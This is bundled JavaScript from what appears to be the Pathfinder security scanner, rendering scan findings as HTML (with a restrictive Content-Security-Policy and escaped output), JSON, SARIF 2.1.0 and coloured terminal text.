h1 { font-size: 1.6rem; margin: 0.2em 0 0.4em; }
h2 { font-size: 1.25rem; margin: 1.6em 0 0.5em; }
h3 { font-size: 1.05rem; margin: 1.2em 0 0.4em; }
.visually-hidden { position: absolute !important; width: 1px; height: 1px; overflow: hidden; clip: rect(0 0 0 0); white-space: nowrap; }
.skip-link { position: absolute; left: -999px; top: 0; background: var(--accent); color: var(--accent-text); padding: 0.5em 1em; z-index: 10; }
.skip-link:focus { left: 0.5em; top: 0.5em; }
.site-header { background: var(--surface); border-bottom: 1px solid var(--border); }
.site-header .inner { max-width: 1200px; margin: 0 auto; padding: 0.6rem 1rem; display: flex; flex-wrap: wrap; gap: 0.5rem 1.5rem; align-items: center; }
.brand { font-weight: 700; font-size: 1.1rem; color: var(--text); text-decoration: none; }
.nav { display: flex; flex-wrap: wrap; gap: 0.25rem; margin: 0; padding: 0; list-style: none; }
.nav a { display: inline-block; padding: 0.3em 0.7em; border-radius: var(--radius); text-decoration: none; color: var(--text); }
.nav a[aria-current="page"] { background: var(--surface-2); font-weight: 600; }
.nav a:hover { background: var(--surface-2); }
main { max-width: 1200px; margin: 0 auto; padding: 1rem; }
.muted { color: var(--muted); }
.card { background: var(--surface); border: 1px solid var(--border); border-radius: var(--radius); padding: 1rem; }
.stack > * + * { margin-top: 0.75rem; }
.meta-list { display: flex; flex-wrap: wrap; gap: 0.25rem 1.25rem; margin: 0; padding: 0; list-style: none; color: var(--muted); }
.badge { display: inline-block; min-width: 4.8em; text-align: center; padding: 0.05em 0.55em; border-radius: 999px;
  font-size: 0.78rem; font-weight: 700; letter-spacing: 0.03em; text-transform: uppercase; color: #fff; background: var(--muted); }
.badge-critical { background: var(--sev-critical); }
.badge-high { background: var(--sev-high); }
.badge-medium { background: var(--sev-medium); }
.badge-low { background: var(--sev-low); }
.badge-suppressed { background: transparent; color: var(--muted); border: 1px solid var(--border); }
.tag { display: inline-block; padding: 0 0.5em; border-radius: 4px; background: var(--surface-2); border: 1px solid var(--border); font-size: 0.8rem; }
.tags { display: flex; flex-wrap: wrap; gap: 0.3rem; margin: 0; padding: 0; list-style: none; }
.counts { display: flex; flex-wrap: wrap; gap: 0.6rem; margin: 0; padding: 0; list-style: none; }
.counts li { display: flex; gap: 0.4rem; align-items: center; background: var(--surface); border: 1px solid var(--border); border-radius: var(--radius); padding: 0.35rem 0.7rem; }
.counts strong { font-size: 1.15rem; }
.code-frame { margin: 0.5rem 0 0; padding: 0.5rem 0; background: var(--code-bg); border: 1px solid var(--border); border-radius: 6px; overflow-x: auto; font: 0.86rem/1.5 var(--mono); }
.code-frame .line { display: flex; white-space: pre; padding-right: 1rem; }
.code-frame .line.in-region { background: color-mix(in srgb, var(--sev-high) 9%, transparent); }
.code-frame .ln { flex: none; width: 3.5em; padding-right: 0.8em; text-align: right; color: var(--muted); user-select: none; }
.code-frame .gap .ln { color: var(--muted); }
.code-frame mark { background: var(--mark); color: var(--mark-text); border-radius: 2px; }
.finding { background: var(--surface); border: 1px solid var(--border); border-left: 5px solid var(--muted); border-radius: var(--radius); padding: 0.75rem 1rem; }
.finding.sev-critical { border-left-color: var(--sev-critical); }
.finding.sev-high { border-left-color: var(--sev-high); }
.finding.sev-medium { border-left-color: var(--sev-medium); }
.finding.sev-low { border-left-color: var(--sev-low); }
.finding-head { display: flex; flex-wrap: wrap; gap: 0.4rem 0.75rem; align-items: baseline; }
.finding-rule { font-family: var(--mono); font-size: 0.85rem; }
.finding-message { margin: 0.35rem 0 0; }
.finding-fix { margin: 0.4rem 0 0; color: var(--muted); }
.finding-list { list-style: none; margin: 0; padding: 0; display: grid; gap: 0.6rem; }
.trace { margin: 0.5rem 0 0; padding-left: 1.4rem; color: var(--muted); }
.filters { display: flex; flex-wrap: wrap; gap: 0.6rem 1.2rem; align-items: end; }
.filters fieldset { border: 1px solid var(--border); border-radius: var(--radius); margin: 0; padding: 0.3rem 0.7rem 0.5rem; display: flex; flex-wrap: wrap; gap: 0.2rem 0.8rem; }
.filters legend { font-size: 0.85rem; color: var(--muted); padding: 0 0.3em; }
.field { display: flex; flex-direction: column; gap: 0.2rem; font-size: 0.85rem; color: var(--muted); }
input[type="search"], input[type="text"], select { font: inherit; color: var(--text); background: var(--surface); border: 1px solid var(--border); border-radius: 6px; padding: 0.35rem 0.5rem; min-height: 2.2rem; }
button, .button { font: inherit; cursor: pointer; color: var(--text); background: var(--surface-2); border: 1px solid var(--border); border-radius: 6px; padding: 0.35rem 0.8rem; min-height: 2.2rem; text-decoration: none; display: inline-flex; align-items: center; gap: 0.35rem; }
button:hover, .button:hover { border-color: var(--accent); }
.button-primary { background: var(--accent); color: var(--accent-text); border-color: var(--accent); }
.chart { max-width: 100%; height: auto; }
.chart text { fill: var(--text); font: 12px var(--sans); }
.chart .axis { stroke: var(--border); }
.chart .bar-critical { fill: var(--sev-critical); }
.chart .bar-high { fill: var(--sev-high); }
.chart .bar-medium { fill: var(--sev-medium); }
.chart .bar-low { fill: var(--sev-low); }
.chart .bar-rule { fill: var(--accent); }
.charts { display: grid; grid-template-columns: repeat(auto-fit, minmax(300px, 1fr)); gap: 1rem; margin-top: 1rem; align-items: start; }
.file-group > h3 { font-family: var(--mono); font-size: 0.95rem; word-break: break-all; }
.empty { padding: 1rem; text-align: center; color: var(--muted); }
table.data { border-collapse: collapse; width: 100%; }
table.data th, table.data td { text-align: left; padding: 0.35rem 0.6rem; border-bottom: 1px solid var(--border); vertical-align: top; }
[hidden] { display: none !important; }
@media (max-width: 640px) {
  body { font-size: 14px; }
  main { padding: 0.6rem; }
  .code-frame .ln { width: 2.8em; }
}
@media (prefers-reduced-motion: reduce) { * { transition: none !important; animation: none !important; } }
`;

// src/report/html.ts
var MAX_CHART_RULES = 12;
function renderHtml(report, options) {
  const summary = summarize(report);
  const rules = new Map(report.rules.map((r) => [r.id, r]));
  const findings = visibleFindings(report, options.showSuppressed);
  const title = `Pathfinder report: ${plural(summary.total, "finding")}`;
  const body2 = [
    `<a class="skip-link" href="#findings">Skip to findings</a>`,
    `<header class="site-header"><div class="inner"><span class="brand">Pathfinder</span><span class="muted">Scan report</span></div></header>`,
    `<main>`,
    `<h1>${escapeHtml(plural(summary.total, "finding"))}${summary.suppressed ? ` <span class="muted">(${summary.suppressed} suppressed)</span>` : ""}</h1>`,
    scanFacts(report),
    summarySection(report),
    findingsSection(findings, rules, options),
    errorsSection(report.errors),
    rulesSection(report.rules),
    `</main>`,
    `<footer class="site-footer"><p class="muted">Generated by ${escapeHtml(report.tool.name)} ${escapeHtml(report.tool.version)}` + (report.tool.informationUri ? ` \xB7 <a href="${safeHref(report.tool.informationUri)}">${escapeHtml(report.tool.informationUri)}</a>` : "") + `</p></footer>`,
    `<script>${FILTER_SCRIPT}</script>`
  ];
  return [
    `<!DOCTYPE html>`,
    `<html lang="en">`,
    `<head>`,
    `<meta charset="utf-8">`,
    `<meta name="viewport" content="width=device-width, initial-scale=1">`,
    // Nothing may be fetched: no network requests even for a hostile report opened from disk.
    `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'">`,
    `<meta name="referrer" content="no-referrer">`,
    `<title>${escapeHtml(title)}</title>`,
    `<style>${BASE_CSS}${REPORT_CSS}</style>`,
    `</head>`,
    `<body>`,
    ...body2,
    `</body>`,
    `</html>`,
    ``
  ].join("\n");
}
function scanFacts(report) {
  const s = report.scan;
  const facts = [
    `Target <code>${escapeHtml(s.target)}</code>`,
    `Started <time datetime="${escapeHtml(s.timestamp)}">${escapeHtml(s.timestamp)}</time>`,
    `${escapeHtml(formatDuration(s.durationMs))}`,
    plural(s.filesScanned, "file") + " scanned",
    plural(s.rulesExecuted.length, "rule") + " run"
  ];
  return `<ul class="meta-list">${facts.map((f) => `<li>${f}</li>`).join("")}</ul>`;
}
function summarySection(report) {
  const summary = summarize(report);
  const counts = SEVERITIES.map((s) => `<li>${severityBadge(s)}<strong>${summary.bySeverity[s]}</strong></li>`);
  if (summary.suppressed) counts.push(`<li><span class="badge badge-suppressed">suppressed</span><strong>${summary.suppressed}</strong></li>`);
  const active = report.findings.filter((f) => !f.suppressed);
  const bySeverity = SEVERITIES.map((s) => ({ label: s, value: summary.bySeverity[s], className: `bar-${s}` }));
  const ruleCounts = /* @__PURE__ */ new Map();
  for (const f of active) ruleCounts.set(f.ruleId, (ruleCounts.get(f.ruleId) ?? 0) + 1);
  const sorted = [...ruleCounts].sort((a, b) => b[1] - a[1] || a[0].localeCompare(b[0]));
  const byRule = sorted.slice(0, MAX_CHART_RULES).map(([id, n]) => ({ label: id, value: n, className: "bar-rule" }));
  const rest = sorted.slice(MAX_CHART_RULES).reduce((sum, [, n]) => sum + n, 0);
  if (rest) byRule.push({ label: "other rules", value: rest, className: "bar-rule" });
  return [
    `<section aria-labelledby="summary-heading">`,
    `<h2 id="summary-heading">Summary</h2>`,
    `<ul class="counts" aria-label="Findings by severity">${counts.join("")}</ul>`,
    active.length ? `<div class="charts"><figure class="card"><figcaption>By severity</figcaption>${barChartSvg("chart-severity", "Findings by severity", bySeverity)}</figure><figure class="card"><figcaption>By rule</figcaption>${barChartSvg("chart-rule", "Findings by rule", byRule)}</figure></div>` : "",
    `</section>`
  ].join("\n");
}
function findingsSection(findings, rules, options) {
  const out2 = [`<section aria-labelledby="findings">`, `<h2 id="findings" tabindex="-1">Findings</h2>`];
  if (!findings.length) {
    out2.push(`<p class="empty card">No findings.</p>`, `</section>`);
    return out2.join("\n");
  }
  out2.push(filterForm(findings));
  out2.push(`<p id="filter-status" class="muted" role="status" aria-live="polite">Showing all ${plural(findings.length, "finding")}.</p>`);
  out2.push(`<p id="filter-empty" class="empty card" hidden>No finding matches the filters.</p>`);
  const byFile = /* @__PURE__ */ new Map();
  for (const f of findings) {
    const list = byFile.get(f.location.file);
    if (list) list.push(f);
    else byFile.set(f.location.file, [f]);
  }
  let index = 0;
  for (const [file, list] of byFile) {
    const headingId = `file-${index++}`;
    out2.push(`<section class="file-group" aria-labelledby="${headingId}">`);
    out2.push(`<h3 id="${headingId}">${escapeHtml(file)} <span class="muted">(${list.length})</span></h3>`);
    out2.push(`<ol class="finding-list">`);
    const lines = isArtifactPath(list) ? void 0 : options.sourceLines?.(file);
    for (const f of list) out2.push(findingItem(f, rules.get(f.ruleId), lines));
    out2.push(`</ol>`, `</section>`);
  }
  out2.push(`</section>`);
  return out2.join("\n");
}
function isArtifactPath(list) {
  return list.some((f) => f.location.member !== void 0 || f.location.offset !== void 0);
}
function filterForm(findings) {
  const present = new Set(findings.map((f) => f.severity));
  const severityBoxes = SEVERITIES.filter((s) => present.has(s)).map(
    (s) => `<label><input type="checkbox" name="severity" value="${s}" checked> ${s}</label>`
  );
  const ruleIds = [...new Set(findings.map((f) => f.ruleId))].sort();
  const ruleOptions = ruleIds.map((id) => `<option value="${escapeHtml(id)}">${escapeHtml(id)}</option>`);
  const hasSuppressed = findings.some((f) => f.suppressed);
  return [
    `<form id="filters" class="filters" hidden>`,
    `<fieldset><legend>Severity</legend>${severityBoxes.join("")}</fieldset>`,
    `<label class="field" for="filter-rule">Rule<select id="filter-rule" name="rule"><option value="">All rules</option>${ruleOptions.join("")}</select></label>`,
    `<label class="field" for="filter-text">Search<input id="filter-text" name="text" type="search" placeholder="file, message, code"></label>`,
    hasSuppressed ? `<label><input type="checkbox" name="suppressed" checked> Show suppressed</label>` : "",
    `</form>`
  ].join("\n");
}
function findingItem(f, rule, lines) {
  const loc = f.location;
  const where = loc.member !== void 0 || loc.offset !== void 0 ? `${loc.file}${loc.member !== void 0 ? ` \u2192 ${loc.member}` : ""}${loc.offset !== void 0 ? ` @ byte ${loc.offset}` : ""}` : `${loc.file}:${loc.line}:${loc.column}`;
  const frame = loc.member !== void 0 || loc.offset !== void 0 ? loc.snippet.trim() ? `<pre class="code-frame"><code>${escapeHtml(loc.snippet)}</code></pre>` : "" : codeFrameHtml(loc, lines);
  const parts2 = [
    `<li class="finding sev-${f.severity}" data-severity="${f.severity}" data-rule="${escapeHtml(f.ruleId)}"${f.suppressed ? ` data-suppressed="true"` : ""}>`,
    `<div class="finding-head">${severityBadge(f.severity)}` + (f.suppressed ? `<span class="badge badge-suppressed">suppressed</span>` : "") + `<a class="finding-rule" href="#rule-${slug(f.ruleId)}">${escapeHtml(f.ruleId)}</a><strong>${escapeHtml(f.ruleName)}</strong><span class="muted">${escapeHtml(where)}</span><span class="muted">confidence: ${escapeHtml(f.confidence)}</span></div>`,
    `<p class="finding-message">${codeSpans(f.message)}</p>`,
    frame
  ];
  if (f.trace?.length) {
    parts2.push(
      `<details><summary>Trace (${f.trace.length} steps)</summary><ol class="trace">` + f.trace.map((t) => `<li><span class="muted">${escapeHtml(`${t.location.file}:${t.location.line}:${t.location.column}`)}</span> ${codeSpans(t.message)}</li>`).join("") + `</ol></details>`
    );
  }
  if (f.fix) parts2.push(`<p class="finding-fix">Suggested fix: ${escapeHtml(f.fix.description)}</p>`);
  else if (rule?.docs.fixHint) parts2.push(`<p class="finding-fix">How to fix: ${escapeHtml(rule.docs.fixHint)}</p>`);
  if (f.suppressed) parts2.push(`<p class="finding-fix">Suppressed (${escapeHtml(f.suppressed.kind)}): <code>${escapeHtml(f.suppressed.justification)}</code></p>`);
  parts2.push(`</li>`);
  return parts2.filter(Boolean).join("\n");
}
function errorsSection(errors) {
  if (!errors.length) return "";
  const rows = errors.map(
    (e) => `<tr><td>${escapeHtml(e.level)}</td><td><code>${escapeHtml(e.file)}${e.line ? `:${e.line}${e.column ? `:${e.column}` : ""}` : ""}</code></td><td>${escapeHtml(e.kind)}</td><td>${escapeHtml(e.message)}</td></tr>`
  );
  return [
    `<section aria-labelledby="errors-heading">`,
    `<h2 id="errors-heading">Problems with inputs (${errors.length})</h2>`,
    `<div class="card" style="overflow-x:auto"><table class="data"><thead><tr><th scope="col">Level</th><th scope="col">File</th><th scope="col">Kind</th><th scope="col">Message</th></tr></thead>`,
    `<tbody>${rows.join("\n")}</tbody></table></div>`,
    `</section>`
  ].join("\n");
}
function rulesSection(rules) {
  if (!rules.length) return "";
  const items = rules.map((r) => {
    const refs = r.docs.references.length ? `<ul>${r.docs.references.map((ref) => `<li><a href="${safeHref(ref.url)}" rel="noreferrer">${escapeHtml(ref.title)}</a></li>`).join("")}</ul>` : "";
    return `<li class="card" id="rule-${slug(r.id)}"><div class="finding-head">${severityBadge(r.severity)}<code>${escapeHtml(r.id)}</code><strong>${escapeHtml(r.name)}</strong><span class="muted">${escapeHtml([...r.cwe, ...r.owasp].join(", "))}</span></div><p>${escapeHtml(r.docs.summary)}</p>` + (r.docs.fixHint ? `<p class="finding-fix">How to fix: ${escapeHtml(r.docs.fixHint)}</p>` : "") + (refs ? `<details><summary>References</summary>${refs}</details>` : "") + `</li>`;
  });
  return [`<section aria-labelledby="rules-heading">`, `<h2 id="rules-heading">Rules</h2>`, `<ul class="finding-list">${items.join("\n")}</ul>`, `</section>`].join("\n");
}
function plural(n, word) {
  return `${n} ${word}${n === 1 ? "" : "s"}`;
}
function formatDuration(ms) {
  return ms < 1e3 ? `${Math.round(ms)} ms` : `${(ms / 1e3).toFixed(1)} s`;
}
var REPORT_CSS = `
.site-footer { max-width: 1200px; margin: 2rem auto 1rem; padding: 0 1rem; }
figure { margin: 0; }
figcaption { font-weight: 600; margin-bottom: 0.4rem; }
.finding details { margin-top: 0.4rem; }
`;
var FILTER_SCRIPT = `
(function () {
  var form = document.getElementById("filters");
  if (!form) return;
  form.hidden = false;
  var items = Array.prototype.slice.call(document.querySelectorAll(".finding[data-severity]"));
  var groups = Array.prototype.slice.call(document.querySelectorAll(".file-group"));
  var status = document.getElementById("filter-status");
  var empty = document.getElementById("filter-empty");
  function apply() {
    var severities = Array.prototype.slice.call(form.querySelectorAll('input[name="severity"]:checked')).map(function (el) { return el.value; });
    var rule = form.elements.namedItem("rule").value;
    var text = form.elements.namedItem("text").value.trim().toLowerCase();
    var suppressedBox = form.elements.namedItem("suppressed");
    var showSuppressed = !suppressedBox || suppressedBox.checked;
    var shown = 0;
    items.forEach(function (el) {
      var group = el.closest(".file-group");
      var haystack = ((group ? group.querySelector("h3").textContent : "") + " " + el.textContent).toLowerCase();
      var visible = severities.indexOf(el.getAttribute("data-severity")) >= 0 &&
        (!rule || el.getAttribute("data-rule") === rule) &&
        (!text || haystack.indexOf(text) >= 0) &&
        (showSuppressed || el.getAttribute("data-suppressed") !== "true");
      el.hidden = !visible;
      if (visible) shown++;
    });
    groups.forEach(function (g) { g.hidden = !g.querySelector(".finding:not([hidden])"); });
    var noun = items.length === 1 ? " finding." : " findings.";
    status.textContent = shown === items.length ? "Showing all " + items.length + noun : "Showing " + shown + " of " + items.length + noun;
    empty.hidden = shown !== 0;
  }
  form.addEventListener("input", apply);
  form.addEventListener("change", apply);
  form.addEventListener("submit", function (e) { e.preventDefault(); });
})();
`;

// src/report/json.ts
function toJsonReport(report, options) {
  const summary = summarize(report);
  return {
    tool: { name: report.tool.name, version: report.tool.version },
    scan: {
      target: report.scan.target,
      timestamp: report.scan.timestamp,
      duration_ms: report.scan.durationMs,
      rules_executed: [...report.scan.rulesExecuted],
      files_scanned: report.scan.filesScanned
    },
    results: visibleFindings(report, options.showSuppressed).map(toJsonResult),
    summary: {
      total: summary.total,
      by_severity: {
        critical: summary.bySeverity.critical,
        high: summary.bySeverity.high,
        medium: summary.bySeverity.medium,
        low: summary.bySeverity.low
      },
      suppressed: summary.suppressed
    },
    errors: report.errors.map(toJsonError)
  };
}
function renderJson(report, options) {
  return JSON.stringify(toJsonReport(report, options), null, 2) + "\n";
}
function toJsonResult(finding) {
  const result2 = {
    rule_id: finding.ruleId,
    rule_name: finding.ruleName,
    message: finding.message,
    severity: finding.severity,
    confidence: finding.confidence,
    location: toJsonLocation(finding.location),
    cwe: [...finding.cwe],
    owasp: [...finding.owasp],
    fingerprint: finding.fingerprint
  };
  if (finding.suppressed) {
    result2.suppressed = { kind: finding.suppressed.kind, justification: finding.suppressed.justification };
  }
  if (finding.fix) result2.fix = { description: finding.fix.description, edits: finding.fix.edits.map(toJsonEdit) };
  if (finding.trace) {
    result2.trace = finding.trace.map((step) => ({ location: toJsonLocation(step.location), message: step.message }));
  }
  return result2;
}
function toJsonLocation(loc) {
  const out2 = {
    file: loc.file,
    line: loc.line,
    column: loc.column,
    end_line: loc.endLine,
    end_column: loc.endColumn,
    snippet: loc.snippet
  };
  if (loc.member !== void 0) out2.member = loc.member;
  if (loc.offset !== void 0) out2.offset = loc.offset;
  return out2;
}
function toJsonEdit(edit) {
  return { line: edit.line, column: edit.column, end_line: edit.endLine, end_column: edit.endColumn, new_text: edit.newText };
}
function toJsonError(error) {
  const out2 = { file: error.file, kind: error.kind, level: error.level, message: error.message };
  if (error.line !== void 0) out2.line = error.line;
  if (error.column !== void 0) out2.column = error.column;
  return out2;
}

// src/report/rule-help.ts
function sectionsOf(rule) {
  const d = rule.docs;
  return [
    { title: "Security implications", body: d.securityImplications },
    { title: "How to fix", body: d.howToFix },
    { title: "Vulnerable example", code: d.vulnerableExample },
    { title: "Safe example", code: d.safeExample }
  ].filter((s) => (s.body ?? s.code ?? "").trim() !== "");
}
function ruleHelpMarkdown(rule) {
  const language = rule.language === "python" ? "python" : "";
  const parts2 = [];
  if (rule.docs.description.trim()) parts2.push(rule.docs.description.trim());
  for (const section of sectionsOf(rule)) {
    if (section.code !== void 0) {
      parts2.push(`## ${section.title}

${fenced(section.code.replace(/\s+$/, ""), language)}`);
    } else {
      parts2.push(`## ${section.title}

${section.body.trim()}`);
    }
  }
  if (rule.docs.references.length > 0) {
    const items = rule.docs.references.map((r) => `- [${escapeLinkText(r.title)}](${linkDestination(r.url)})`);
    parts2.push(`## References

${items.join("\n")}`);
  }
  return parts2.join("\n\n");
}
function ruleHelpText(rule) {
  const parts2 = [];
  if (rule.docs.description.trim()) parts2.push(rule.docs.description.trim());
  for (const section of sectionsOf(rule)) {
    const body2 = section.code !== void 0 ? section.code.replace(/\s+$/, "").split(/\r\n|\r|\n/).map((l) => ("    " + l).trimEnd()).join("\n") : section.body.trim();
    parts2.push(`${section.title}:
${body2}`);
  }
  if (rule.docs.references.length > 0) {
    parts2.push(`References:
${rule.docs.references.map((r) => `- ${r.title}: ${r.url}`).join("\n")}`);
  }
  return parts2.join("\n\n");
}
function fenced(code3, language) {
  const longestRun = Math.max(0, ...(code3.match(/`+/g) ?? []).map((run3) => run3.length));
  const fence = "`".repeat(Math.max(3, longestRun + 1));
  return `${fence}${language}
${code3}
${fence}`;
}
function escapeLinkText(text) {
  return text.replace(/[\\[\]]/g, (ch) => "\\" + ch);
}
function linkDestination(url) {
  return /[\s()<>]/.test(url) ? `<${url.replace(/[<>]/g, encodeURIComponent)}>` : url;
}

// src/report/uri.ts
function wellFormed(text) {
  return text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\uFFFD");
}
function encodeSegment(segment) {
  return encodeURIComponent(wellFormed(segment)).replace(
    /[!'()*]/g,
    (ch) => "%" + ch.charCodeAt(0).toString(16).toUpperCase()
  );
}
function relativeFileUri(path) {
  return path.replace(/^\.\/+/, "").split("/").map(encodeSegment).join("/");
}
function directoryFileUri(absolutePath) {
  let path = absolutePath.replace(/\\/g, "/");
  let authority = "";
  if (path.startsWith("//")) {
    const [host = "", ...rest] = path.slice(2).split("/");
    authority = encodeSegment(host);
    path = "/" + rest.join("/");
  } else if (/^[A-Za-z]:/.test(path)) {
    path = "/" + path;
  }
  const segments = path.split("/").map((segment, i2) => i2 === 1 && /^[A-Za-z]:$/.test(segment) ? segment : encodeSegment(segment));
  let uri = `file://${authority}${segments.join("/")}`;
  if (!uri.endsWith("/")) uri += "/";
  return uri;
}

// src/report/sarif.ts
var SARIF_SCHEMA_URI = "https://json.schemastore.org/sarif-2.1.0.json";
var SARIF_TOOL_NAME = "Pathfinder";
var SRCROOT = "%SRCROOT%";
var PATHFINDER_FINGERPRINT_KEY = "pathfinderFingerprint/v1";
var SARIF_LEVEL = { critical: "error", high: "error", medium: "warning", low: "note" };
var SECURITY_SEVERITY = { critical: "9.0", high: "7.0", medium: "5.0", low: "3.0" };
function toSarifLog(report) {
  const informationUri = isAbsoluteUri(report.tool.informationUri) ? report.tool.informationUri.replace(/\/+$/, "") : void 0;
  const descriptors = ruleDescriptors(report, informationUri);
  const ruleIndex = new Map(descriptors.map((d, i2) => [d.id, i2]));
  const driver = { name: SARIF_TOOL_NAME, version: report.tool.version };
  if (informationUri) driver.informationUri = informationUri;
  if (SEMVER.test(report.tool.version)) driver.semanticVersion = report.tool.version;
  driver.rules = descriptors;
  const run3 = {
    tool: { driver },
    invocations: [invocation(report)]
  };
  if (isAbsolutePath(report.scan.target)) {
    run3.originalUriBaseIds = { [SRCROOT]: { uri: directoryFileUri(report.scan.target) } };
  }
  run3.results = report.findings.map((f) => result(f, ruleIndex.get(f.ruleId)));
  run3.columnKind = "utf16CodeUnits";
  return { $schema: SARIF_SCHEMA_URI, version: "2.1.0", runs: [run3] };
}
function renderSarif(report) {
  return JSON.stringify(toSarifLog(report), null, 2) + "\n";
}
function ruleDescriptors(report, informationUri) {
  const seen = /* @__PURE__ */ new Set();
  const out2 = [];
  for (const rule of report.rules) {
    if (seen.has(rule.id)) continue;
    seen.add(rule.id);
    out2.push(ruleDescriptor(rule, informationUri));
  }
  for (const finding of report.findings) {
    if (seen.has(finding.ruleId)) continue;
    seen.add(finding.ruleId);
    out2.push({
      id: finding.ruleId,
      name: pascalCase(finding.ruleName),
      shortDescription: { text: finding.ruleName },
      defaultConfiguration: { level: SARIF_LEVEL[finding.severity] },
      properties: { tags: unique(["security", ...finding.cwe.flatMap(cweTag)]), "security-severity": SECURITY_SEVERITY[finding.severity] }
    });
  }
  return out2;
}
function ruleDescriptor(rule, informationUri) {
  const descriptor = {
    id: rule.id,
    name: pascalCase(rule.name),
    shortDescription: { text: rule.docs.summary || rule.name },
    fullDescription: { text: rule.docs.description || rule.docs.summary || rule.name, markdown: rule.docs.description || rule.docs.summary || rule.name },
    help: { text: ruleHelpText(rule) || rule.name, markdown: ruleHelpMarkdown(rule) || rule.name }
  };
  if (informationUri) descriptor.helpUri = `${informationUri}/rules/${encodeURIComponent(rule.id)}`;
  descriptor.defaultConfiguration = { level: SARIF_LEVEL[rule.severity] };
  descriptor.properties = {
    tags: unique([...rule.tags, "security", ...rule.cwe.flatMap(cweTag)]),
    precision: rule.precision,
    "security-severity": SECURITY_SEVERITY[rule.severity]
  };
  return descriptor;
}
function result(finding, ruleIndex) {
  const loc = finding.location;
  const out2 = {
    ruleId: finding.ruleId,
    ruleIndex,
    level: SARIF_LEVEL[finding.severity],
    message: { text: finding.message },
    locations: [resultLocation(loc)],
    partialFingerprints: { primaryLocationLineHash: finding.fingerprint, [PATHFINDER_FINGERPRINT_KEY]: finding.fingerprint }
  };
  if (finding.trace && finding.trace.length > 0) {
    out2.codeFlows = [
      {
        threadFlows: [
          {
            locations: finding.trace.map((step) => ({
              location: { physicalLocation: physicalLocation(step.location), message: { text: step.message } }
            }))
          }
        ]
      }
    ];
  }
  if (finding.fix && finding.fix.edits.length > 0) {
    out2.fixes = [
      {
        description: { text: finding.fix.description },
        artifactChanges: [
          {
            artifactLocation: artifactLocation(loc.file),
            replacements: finding.fix.edits.map((edit) => ({
              deletedRegion: region(edit),
              insertedContent: { text: edit.newText }
            }))
          }
        ]
      }
    ];
  }
  if (finding.suppressed) {
    out2.suppressions = [
      {
        kind: suppressionKind(finding.suppressed.kind),
        justification: finding.suppressed.justification,
        properties: { pathfinderKind: finding.suppressed.kind }
      }
    ];
  }
  const properties = { severity: finding.severity, confidence: finding.confidence };
  if (loc.member !== void 0) properties.member = loc.member;
  if (loc.offset !== void 0) properties.offset = loc.offset;
  out2.properties = properties;
  return out2;
}
function resultLocation(loc) {
  const out2 = { physicalLocation: physicalLocation(loc) };
  if (loc.member !== void 0) out2.logicalLocations = [{ name: loc.member, fullyQualifiedName: `${loc.file}/${loc.member}`, kind: "resource" }];
  if (loc.member !== void 0 || loc.offset !== void 0) {
    const where = [
      loc.offset !== void 0 ? `byte offset ${loc.offset}` : void 0,
      loc.member !== void 0 ? `member ${loc.member}` : void 0
    ].filter((s) => s !== void 0);
    out2.message = { text: `Pickle opcode at ${where.join(" of ")}` };
    const properties = {};
    if (loc.member !== void 0) properties.member = loc.member;
    if (loc.offset !== void 0) properties.offset = loc.offset;
    out2.properties = properties;
  }
  return out2;
}
function physicalLocation(loc) {
  const r = region(loc);
  if (loc.snippet !== "") r.snippet = { text: loc.snippet };
  return { artifactLocation: artifactLocation(loc.file), region: r };
}
function artifactLocation(file) {
  return { uri: relativeFileUri(file), uriBaseId: SRCROOT };
}
function region(r) {
  const startLine = positive(r.line);
  const startColumn = positive(r.column);
  const endLine = Math.max(startLine, positive(r.endLine));
  let endColumn = positive(r.endColumn);
  if (endLine === startLine && endColumn < startColumn) endColumn = startColumn;
  return { startLine, startColumn, endLine, endColumn };
}
function invocation(report) {
  const out2 = {
    // Problems with single inputs are reported as notifications; only an internal error means the tool itself failed.
    executionSuccessful: !report.errors.some((e) => e.kind === "internal" && e.level === "error")
  };
  const start2 = Date.parse(report.scan.timestamp);
  if (Number.isFinite(start2)) {
    out2.startTimeUtc = new Date(start2).toISOString();
    if (Number.isFinite(report.scan.durationMs) && report.scan.durationMs >= 0) {
      out2.endTimeUtc = new Date(start2 + report.scan.durationMs).toISOString();
    }
  }
  out2.toolExecutionNotifications = report.errors.map(notification);
  return out2;
}
function notification(error) {
  const out2 = { level: error.level, message: { text: error.message } };
  if (error.file !== "") {
    const physical = { artifactLocation: artifactLocation(error.file) };
    if (error.line !== void 0) {
      const r = { startLine: positive(error.line) };
      if (error.column !== void 0) r.startColumn = positive(error.column);
      physical.region = r;
    }
    out2.locations = [{ physicalLocation: physical }];
  }
  out2.properties = { kind: error.kind };
  return out2;
}
function suppressionKind(kind) {
  return kind === "pathfinder" || kind === "nosec" ? "inSource" : "external";
}
function pascalCase(name2) {
  return name2.split(/[^\p{L}\p{N}]+/u).filter((w) => w !== "").map((w) => w[0].toUpperCase() + w.slice(1)).join("");
}
function cweTag(cwe) {
  const m = /^CWE-(\d+)$/i.exec(cwe.trim());
  return m ? [`external/cwe/cwe-${m[1]}`] : [];
}
function unique(values) {
  return [...new Set(values)];
}
function positive(n) {
  return Number.isFinite(n) && n >= 1 ? Math.trunc(n) : 1;
}
var SEMVER = /^\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?(?:\+[0-9A-Za-z.-]+)?$/;
function isAbsoluteUri(uri) {
  return /^[A-Za-z][A-Za-z0-9+.-]*:\/\/\S+$/.test(uri);
}
function isAbsolutePath(path) {
  return path.startsWith("/") || /^[A-Za-z]:[\\/]/.test(path) || path.startsWith("\\\\");
}

// src/report/terminal.ts
var ESC = "\x1B[";
var STYLE_CODES = {
  bold: [1, 22],
  dim: [2, 22],
  red: [31, 39],
  green: [32, 39],
  yellow: [33, 39],
  blue: [34, 39],
  magenta: [35, 39],
  cyan: [36, 39]
};
function painter(color) {
  if (!color) return { paint: (text) => text };
  return {
    paint(text, ...styles) {
      if (text === "" || styles.length === 0) return text;
      const open3 = styles.map((s) => `${ESC}${STYLE_CODES[s][0]}m`).join("");
      const close = styles.map((s) => `${ESC}${STYLE_CODES[s][1]}m`).reverse().join("");
      return open3 + text + close;
    }
  };
}
var SEVERITY_STYLES = {
  critical: ["bold", "magenta"],
  high: ["bold", "red"],
  medium: ["yellow"],
  low: ["blue"]
};
